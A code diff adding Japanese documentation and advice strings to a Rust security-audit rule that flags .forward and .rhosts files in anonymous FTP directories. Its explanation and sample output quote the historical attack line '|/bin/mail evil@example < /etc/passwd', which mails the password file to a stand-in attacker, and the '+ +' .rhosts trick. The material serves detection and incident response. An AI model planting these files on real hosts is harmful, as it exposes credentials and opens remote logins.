@@ -27,6 +27,36 @@
 //! ## References
 //! - JPCERT/CC JPCERT-E-INF-97-0001-01
 //! - CERT Advisory CA-93:10, "Anonymous FTP Activity"
+//! <!-- ja -->
+//! # FT003 anon-ftp-dotfile
+//!
+//! ## 検出内容
+//! Anonymous FTP のルート・ディレクトリ（`~ftp`）にある、大きさを問わない `.forward` ファイル
+//! と、空でない `.rhosts`（または `.shosts`）ファイルを検出します。
+//!
+//! ## 重要な理由
+//! `ftp` としてメールを読む者はおらず、`ftp` としてログインすべき者もいません。これらの
+//! ファイルがそこにある理由は一つしかありません。`"|/bin/mail evil@example <
+//! /etc/passwd"` を書いた `~ftp/.forward` をアップロードしてから `ftp@host` にメールを送るのが、
+//! 1996/97 年の年末年始の Anonymous FTP への攻撃でした（JPCERT-E-INF-97-0001）。`+ +` を書いた
+//! `.rhosts` があれば、誰でも `ftp` として `rlogin` できます。これらがあることは、攻撃が行われ、
+//! おそらく成功したことを意味します。（CERT の手引きは、root が所有する *空の* `.rhosts` を
+//! 置いておくことを勧めています。そのようなものは報告しません。）
+//!
+//! ## 例
+//! ```text
+//! home/ftp/.forward: mode 0644, owner ftp, group ftp, 41 bytes: "|/bin/mail evil@example.org < /etc/passwd"
+//! ```
+//!
+//! ## 対処
+//! 証拠として写しを保存してから削除してください。ホストは侵害されたものとして扱ってください:
+//! メールログで `ftp@` 宛てのメール（攻撃の引き金）を探し、(3) 全ユーザのパスワードを変更し、
+//! (4) シャドーパスワードを利用し、(2) `~ftp` を root の所有にして書き込めないようにし、
+//! (5) 不正侵入の可能性が否定できない場合にはシステムを再構築してください。
+//!
+//! ## 参考
+//! - JPCERT/CC JPCERT-E-INF-97-0001-01
+//! - CERT Advisory CA-93:10 "Anonymous FTP Activity"
 
 use super::{anon_areas, describe, first_line, join};
 use crate::Context;
@@ -45,8 +75,11 @@ pub static RULE: Rule = Rule {
              (2) make ~ftp owned by root and not writable, (5) rebuild where an intrusion \
              cannot be ruled out.",
     status: RuleStatus::Stable,
-    title_ja: "",
-    advice_ja: "",
+    title_ja: "Anonymous FTP のルート・ディレクトリに .forward または .rhosts がある",
+    advice_ja: "証拠として写しを保存してから削除してください。ホストは侵害されたものとして扱っ\
+             てください: ftp@ 宛てのメール（攻撃の引き金）を探し、(3) 全ユーザのパスワードを変\
+             更し、(4) シャドーパスワードを利用し、(2) ~ftp を root の所有にして書き込めないよ\
+             うにし、(5) 不正侵入の可能性が否定できない場合はシステムを再構築してください。",
     since: "0.1.0",
     source: include_str!("ft003_dotfiles.rs"),
 };
